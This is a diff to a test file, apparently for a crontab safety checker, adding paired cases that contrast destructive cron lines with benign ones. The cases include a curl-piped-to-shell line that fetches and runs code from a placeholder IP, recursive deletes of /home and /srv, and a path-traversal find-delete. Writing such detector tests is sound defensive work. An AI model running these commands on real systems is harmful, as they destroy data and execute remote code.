@@ -50,6 +50,15 @@ def test_other_texts_are_no_crontabs(text: str) -> None:
         ("@reboot curl -s http://198.51.100.7/x | sh", "@reboot /home/ada/start.sh"),
         ("MAILTO=''\n0 3 * * * ls\n* * * * * rm -rf /home", "MAILTO=''\n0 3 * * * ls\n* * * * * certbot -q renew"),
         ("0 3 * * * find / -mtime +30 -delete", "0 3 * * * find /var/log/app -mtime +30 -delete"),
+        (
+            "0 3 * * * find /var/log/app -mtime +30 -exec rm -rf /srv {} \\;",
+            "0 3 * * * find /var/log/app -mtime +30 -exec rm -f {} \\;",
+        ),
+        (
+            "0 3 * * * find /var/log/app/../../srv -mtime +30 -delete",
+            "0 3 * * * find /srv/backups -mtime +30 -exec rm {} +",
+        ),
+        ("0 3 * * * find /srv/catalogs -mtime +30 -delete", "0 3 * * * find /srv/app-logs -mtime +30 -delete"),
         ("0 3 * * * find /var/log /srv -mtime +30 -delete", "@daily /usr/sbin/logrotate /etc/logrotate.conf"),
     ],
 )
